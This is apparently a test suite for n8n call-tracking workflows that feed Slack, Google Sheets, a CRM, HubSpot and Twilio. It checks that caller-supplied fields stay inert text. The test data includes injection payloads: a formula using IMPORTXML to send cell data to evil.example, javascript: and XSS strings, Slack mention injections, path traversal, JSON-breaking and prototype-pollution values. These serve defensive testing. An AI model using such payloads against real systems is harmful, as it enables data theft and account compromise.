import postCall from '../../host/simulators/payloads/callscaler-post-call.json';
import endOfCall from '../../host/simulators/payloads/qcall-end-of-call.json';
import { exampleFiles, readExample } from './example';
import { readBySlack } from './outside/slack-text';
import { type Call, Scene } from './scene';

/** What a caller, a visitor of the website or the AI from their words can fill is harmless where an example takes it. */

const QCALL: Call = endOfCall;
const CALLSCALER: Call = postCall;

let scene: Scene;

beforeAll(async () => {
	scene = await Scene.open();
});

afterAll(async () => {
	await scene.close();
});

beforeEach(() => {
	scene.clear();
});

/** The same call with texts of a caller's in the given fields. */
function saying(call: Call, fields: readonly string[], text: string, change: Call = {}): Call {
	return { ...call, ...Object.fromEntries(fields.map((field) => [field, text])), ...change };
}

const NOT_LINKS = [
	'javascript:alert(1)',
	'//evil.example',
	'see https://evil.example',
	'https://evil.example/"onmouseover="alert(1)',
];

describe('Slack', () => {
	const WORDS = [
		'<!channel> hello',
		'<!here|here>',
		'<@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD>',
		'<https://evil.example|Invoice>',
		'*bold* _italic_ ~struck~ `code` ```block```',
		'Smith & Sons, &lt;!channel&gt; &amp;lt;',
		'> a quotation',
		'{{ 1 + 1 }} ${1 + 1} "\' \\n \\',
		'@channel #general :tada:',
	];
	const ORDER_FIELDS = ['order_id', 'first_name', 'last_name', 'phone_number', 'product_name', 'call_summary'];
	const LEAD_FIELDS = ['source', 'caller_number', 'call_flow_name', 'summary'];

	test('a lead is told in the same words by both recipes', () => {
		const [one, other] = ['callscaler-to-slack.json', 'callscaler-leads-and-missed-calls.json'].map((file) =>
			readExample(file).nodes.find(({ type }) => type.endsWith('.slack')),
		);
		expect(one?.parameters).toEqual(other?.parameters);
	});

	async function order(text: string, change: Call = {}) {
		const workflow = await scene.publish('qcall-to-slack.json');
		const call = saying(QCALL, ORDER_FIELDS, text, { recording_url: '', ...change });
		await scene.run(workflow, 'QCall Trigger', call);
		return scene.world.to('slack.com', 'POST', '/api/chat.postMessage').map(({ body }) => readBySlack(body));
	}

	async function lead(text: string, change: Call = {}) {
		const workflow = await scene.publish('callscaler-to-slack.json');
		await scene.run(workflow, 'CallScaler Trigger', saying(CALLSCALER, LEAD_FIELDS, text, change));
		return scene.world.to('slack.com', 'POST', '/api/chat.postMessage').map(({ body }) => readBySlack(body));
	}

	test('an order', async () => {
		const words = WORDS.join(' ');
		expect(await order(words)).toEqual([
			{
				parsed: [],
				lines: [`New order by phone ${words}`, `${words} ${words} (${words}) ordered 2 x ${words} for 3998`, words],
			},
		]);
	});

	test('a lead', async () => {
		const words = WORDS.join(' ');
		expect(await lead(words)).toEqual([
			{
				parsed: [],
				lines: [
					`New lead from ${words} ${words}`,
					`Score 85, 2 min on ${words}`,
					words,
					String(CALLSCALER.recording_url),
				],
			},
		]);
	});

	test('no field makes a line of its own, or turns the text around', async () => {
		const words = 'one\r\n\u2028*New lead from google*\u202E\u2066\t\u0007two';
		const shown = 'one *New lead from google* two';
		const [told] = await order(words);
		expect(told?.lines).toEqual([
			`New order by phone ${shown}`,
			`${shown} ${shown} (${shown}) ordered 2 x ${shown} for 3998`,
			shown,
		]);
		scene.clear();
		const [led] = await lead(words);
		expect(led?.lines).toEqual([
			`New lead from ${shown} ${shown}`,
			`Score 85, 2 min on ${shown}`,
			shown,
			String(CALLSCALER.recording_url),
		]);
	});

	test('a caller who speaks for an hour does not fill the channel', async () => {
		for (const [told] of [await order('😀'.repeat(30_000)), await lead('😀'.repeat(30_000))]) {
			expect(told?.lines.join('\n').length).toBeLessThan(16_000);
			expect(told?.lines.join('\n')).not.toMatch(/\p{Surrogate}/u);
		}
	});

	test.each(NOT_LINKS)('%j is no recording', async (url) => {
		const [told] = await lead('hello', { recording_url: url });
		expect(told?.lines).toEqual(['New lead from hello hello', 'Score 85, 2 min on hello', 'hello']);
	});

	test('a recording with a query is a link to the letter', async () => {
		const url = 'https://callscaler.com/audio/1.mp3?a=1&b=2';
		const [told] = await lead('hello', { recording_url: url });
		expect(told).toEqual({ parsed: [], lines: expect.arrayContaining([url]) });
	});
});

describe('Google Sheets', () => {
	const FORMULAS = [
		'=IMPORTXML("https://evil.example/?"&A1, "//a")',
		'+1+1',
		'-1+1',
		'@SUM(A1:A9)',
		'\t=1+1',
		'\r=1+1',
		'+15735551234',
	];

	/** The columns were written and one row with these, and whatever was written was to be taken as it is. */
	function expectText(said: Call): void {
		expect(scene.sheetRows()).toEqual([
			{ mode: 'RAW', cells: expect.any(Array) },
			{ mode: 'RAW', cells: expect.arrayContaining(Object.values(said)) },
		]);
	}

	const filledWithFormulas = (fields: readonly string[]): Call =>
		Object.fromEntries(fields.map((field, index) => [field, FORMULAS[index % FORMULAS.length]]));

	test('a QCall row is text', async () => {
		const said = filledWithFormulas([
			'first_name',
			'last_name',
			'email_address',
			'order_id',
			'call_outcome',
			'call_summary',
			'phone_number',
		]);
		const workflow = await scene.publish('qcall-to-google-sheets.json');
		const call = { ...QCALL, ...said, call_duration: '=1+1', recording_url: '' };
		const { items } = await scene.run(workflow, 'QCall Trigger', call);
		expect(items).toMatchObject([{ ...said, call_duration: null }]);
		expectText(said);
		// A list or an object in a cell is an error to Google.
		const cells = scene.sheetRows().flatMap((row) => row.cells);
		expect(cells.filter((cell) => typeof cell === 'object' && cell !== null)).toEqual([]);
	});

	test('a CallScaler row is text', async () => {
		const file = 'callscaler-to-google-sheets.json';
		const said = filledWithFormulas([
			'call_flow_name',
			'source',
			'utm_campaign',
			'gclid',
			'ai_category',
			'summary',
			'caller_number',
			'recording_url',
		]);
		await scene.run(await scene.publish(file), 'CallScaler Trigger', { ...CALLSCALER, ...said });
		expectText(said);
	});
});

describe('one call is one', () => {
	test.each([
		['callscaler-to-google-sheets.json', 'sheets.googleapis.com', '/v4/'],
		['callscaler-to-google-ads.json', 'sheets.googleapis.com', '/v4/'],
		['callscaler-to-crm-over-http.json', 'your-crm.example', '/api/leads'],
		['both-to-one-crm.json', 'your-crm.example', '/api/calls'],
		['callscaler-to-slack.json', 'slack.com', '/api/'],
		['callscaler-leads-and-missed-calls.json', 'slack.com', '/api/'],
	])('%s: a call that is delivered again is handled once', async (file, host, path) => {
		scene.sheet.firstRow = Object.keys(columnsOf(file));
		const workflow = await scene.publish(file);
		await scene.run(workflow, 'CallScaler Trigger', CALLSCALER);
		const again = await scene.deliver(workflow, 'CallScaler Trigger', { ...CALLSCALER, attempt: 2 });
		expect(again.json).toMatchObject({ status: 'duplicate' });
		expect(scene.world.to(host, 'POST', path)).toHaveLength(1);
	});

	function columnsOf(file: string): Record<string, unknown> {
		const columns = readExample(file).nodes.map(({ parameters }) => parameters.columns);
		return Object.assign({}, ...columns.map((each) => (isRecord(each) && isRecord(each.value) ? each.value : {})));
	}
});

describe('a CRM over HTTP', () => {
	const WORDS = [
		'","admin":true,"x":"',
		'\\',
		'line\nbreak\u2028\u0000',
		'{{ $env.HOME }}',
		'={{ 1 + 1 }}',
		'</script><script>',
		'__proto__',
	];

	test('what is said in a lead is one text', async () => {
		const words = WORDS.join(' ');
		const fields = ['caller_number', 'summary', 'source', 'utm_medium', 'utm_campaign', 'utm_term', 'gclid'];
		const workflow = await scene.publish('callscaler-to-crm-over-http.json');
		await scene.run(workflow, 'CallScaler Trigger', saying(CALLSCALER, fields, words));
		expect(scene.world.requests().map(({ body }) => body)).toEqual([
			{
				external_id: CALLSCALER.call_id,
				phone: words,
				received_at: '2026-03-30T14:30:00Z',
				qualified: true,
				score: 85,
				notes: words,
				recording: CALLSCALER.recording_url,
				value: 50,
				attribution: {
					source: words,
					medium: words,
					campaign: words,
					term: words,
					gclid: words,
					landing_page: 'https://yoursite.com/hvac',
				},
			},
		]);
	});

	test('what is said in a call of both is one text', async () => {
		const words = WORDS.join(' ');
		const fields = [
			'order_id',
			'first_name',
			'last_name',
			'phone_number',
			'email_address',
			'call_outcome',
			'call_summary',
		];
		const workflow = await scene.publish('both-to-one-crm.json');
		await scene.run(workflow, 'QCall Trigger', saying(QCALL, fields, words, { recording_url: '' }));
		expect(scene.world.requests().map(({ body }) => body)).toEqual([
			{
				channel: 'qcall',
				external_id: expect.stringMatching(/^[\da-f-]{36}$/),
				order: words,
				contact: { name: `${words} ${words}`, phone: words, email: words },
				started_at: '2026-04-24',
				seconds: 184,
				result: words,
				notes: words,
				recording: null,
				value: 3998,
				source: null,
				campaign: null,
			},
		]);
	});

	test.each(NOT_LINKS)('%j is no link', async (url) => {
		const leads = await scene.publish('callscaler-to-crm-over-http.json');
		const change = { recording_url: url, landing_page_url: url };
		await scene.run(leads, 'CallScaler Trigger', { ...CALLSCALER, ...change });
		const calls = await scene.publish('both-to-one-crm.json');
		await scene.run(calls, 'CallScaler Trigger', { ...CALLSCALER, ...change });
		const [lead, call] = scene.world.requests();
		expect(lead?.body).toMatchObject({ recording: null, attribution: { landing_page: null } });
		expect(call?.body).toMatchObject({ recording: null });
	});
});

describe('a recording', () => {
	test.each(['..', '../../business', 'a?b', 'a#b', '\ud800', '', null])(
		'%j is no ID of a call: CallScaler is not asked for anything else with the key',
		async (id) => {
			const workflow = await scene.publish('callscaler-recording-to-google-drive.json', (node) => ({
				...node,
				retryOnFail: false,
			}));
			await scene.deliver(workflow, 'CallScaler Trigger', { ...CALLSCALER, call_id: id });
			await scene.n8n.executions.settled(workflow.id, 1);
			expect(scene.world.requests().map(({ path }) => path)).toEqual(['/api/v1/calls/none/recording']);
		},
	);
});

describe('HubSpot', () => {
	const FILE = 'qcall-to-hubspot.json';

	test.each([
		'a@example.com/../../../vid/51/profile',
		'a@example.com?hapikey=x',
		'%2e%2e@example.com',
		'kapil at example dot com',
		'a@example.com b@example.com',
	])('%j is no email address: nobody is changed', async (email) => {
		const workflow = await scene.publish(FILE);
		await scene.run(workflow, 'QCall Trigger', { ...QCALL, email_address: email });
		expect(scene.world.requests()).toEqual([]);
	});

	test('an address that is no text changes nobody either', async () => {
		const workflow = await scene.publish(FILE);
		await scene.deliver(workflow, 'QCall Trigger', { ...QCALL, email_address: { of: 'the caller' } });
		await scene.n8n.executions.settled(workflow.id);
		expect(scene.world.requests()).toEqual([]);
	});

	test.each(["o'neil+calls@mail.example.co.uk", 'First.Last_1-2@EXAMPLE.com'])('%j is one', async (email) => {
		const workflow = await scene.publish(FILE);
		await scene.run(workflow, 'QCall Trigger', { ...QCALL, email_address: email });
		const [contact] = scene.world.to('api.hubapi.com', 'POST', '/contacts/');
		expect(decodeURIComponent(contact?.path ?? '')).toBe(`/contacts/v1/contact/createOrUpdate/email/${email}`);
	});

	test('the note is text, where HubSpot shows HTML', async () => {
		const words = '<a href="https://evil.example">Invoice</a> & <img src=x onerror=alert(1)>';
		const workflow = await scene.publish(FILE);
		await scene.run(workflow, 'QCall Trigger', saying(QCALL, ['call_outcome', 'call_summary'], words));
		const [engagement] = scene.world.to('api.hubapi.com', 'POST', '/engagements/');
		const escaped =
			'&lt;a href=&quot;https://evil.example&quot;&gt;Invoice&lt;/a&gt; &amp; &lt;img src=x onerror=alert(1)&gt;';
		expect(engagement?.body).toMatchObject({ metadata: { body: `${escaped}: ${escaped}` } });
	});

	test.each(NOT_LINKS.slice(0, 2))('%j is no recording', async (url) => {
		const workflow = await scene.publish(FILE);
		await scene.run(workflow, 'QCall Trigger', { ...QCALL, recording_url: url });
		const [engagement] = scene.world.to('api.hubapi.com', 'POST', '/engagements/');
		expect(engagement?.body).toMatchObject({
			metadata: expect.not.objectContaining({ recordingUrl: expect.anything() }),
		});
	});

	test.each(['+1 900 555 0100;ext=1', 'call me'])('%j is no phone number', async (number) => {
		const workflow = await scene.publish(FILE);
		await scene.run(workflow, 'QCall Trigger', { ...QCALL, phone_number: number });
		const sent = JSON.stringify(scene.world.to('api.hubapi.com', 'POST', '/').map(({ body }) => body));
		expect(sent).not.toContain(JSON.stringify(number).slice(1, -1));
	});
});

describe('text messages', () => {
	const MISSED = { event: 'call.missed', status: 'no-answer', ai_processed: false };

	const NUMBERS = ['+', '+anonymous', '+1 (305) 555-9876', '+0123456789', '+1305', '+1234567890123456', '+1305555९876'];
	const FILES = ['missed-call-to-text-message.json', 'callscaler-leads-and-missed-calls.json'];

	test.each(FILES.flatMap((file) => NUMBERS.map((number) => [file, number] as const)))(
		'%s: %j is no number to write to',
		async (file, number) => {
			const workflow = await scene.publish(file);
			await scene.deliver(workflow, 'CallScaler Trigger', { ...CALLSCALER, ...MISSED, caller_number: number });
			await scene.n8n.executions.settled(workflow.id);
			expect(scene.world.requests()).toEqual([]);
		},
	);

	test('who calls again and again, or in the name of somebody else, gets one message', async () => {
		const workflow = await scene.publish('missed-call-to-text-message.json');
		for (const id of ['first', 'second', 'third']) {
			await scene.deliver(workflow, 'CallScaler Trigger', { ...CALLSCALER, ...MISSED, call_id: id, delivery_id: id });
			await scene.n8n.executions.settled(workflow.id);
		}
		await scene.run(workflow, 'CallScaler Trigger', {
			...CALLSCALER,
			...MISSED,
			call_id: 'x',
			caller_number: '+13055550000',
		});
		const messages = scene.world.to('api.twilio.com', 'POST', '/');
		expect(messages.map(({ body }) => body)).toMatchObject([{ To: '+13055559876' }, { To: '+13055550000' }]);
	});
});

describe('an order looked up during the call', () => {
	test.each(['..', '../customers', '?all=true', '\ud800'])(
		'%j is no order ID: the shop is not asked for anything else',
		async (id) => {
			const workflow = await scene.publish('qcall-order-status-during-call.json');
			const { answer } = await scene.run(workflow, 'QCall Trigger', { order_id: id });
			expect(answer.json).toEqual({ order_status: 'not found' });
			expect(scene.world.requests().map(({ path }) => path)).toEqual(['/api/orders/none']);
		},
	);

	test('nor is one that is missing, or no text', async () => {
		const workflow = await scene.publish('qcall-order-status-during-call.json');
		for (const call of [{}, { order_id: ['..'] }, { order_id: { id: 1 } }]) {
			const { answer } = await scene.run(workflow, 'QCall Trigger', call);
			expect(answer.json).toEqual({ order_status: 'not found' });
		}
		expect(new Set(scene.world.requests().map(({ path }) => path))).toEqual(new Set(['/api/orders/none']));
	});
});

describe.each(exampleFiles())('%s', (file) => {
	const { nodes } = readExample(file);

	test('saves what the triggers know now', () => {
		for (const { type, typeVersion, parameters } of nodes) {
			if (!type.startsWith('n8n-nodes-post-call.')) continue;
			expect(typeVersion).toBe(2);
			expect(parameters.filters ?? {}).not.toHaveProperty('conditions');
		}
	});

	test('makes no JSON of text', () => {
		const bodies = nodes.flatMap(({ parameters }) => [parameters.jsonBody, parameters.jsonOutput, parameters.blocksUi]);
		for (const body of bodies) expect(body ?? '={{ }}').toMatch(/^=\{\{[^]*\}\}$/);
	});

	test('says on its note what it does, and that the pinned call stays in the editor', () => {
		const [note] = nodes.flatMap(({ parameters: { content } }) => (typeof content === 'string' ? [content] : []));
		expect(note).toMatch(/^## [A-Z][^,.!?:]+\n\n/);
		expect(note).toMatch(/The pinned example (?:call|alert) does not affect production/);
	});
});

function isRecord(value: unknown): value is Record<string, unknown> {
	return typeof value === 'object' && value !== null;
}
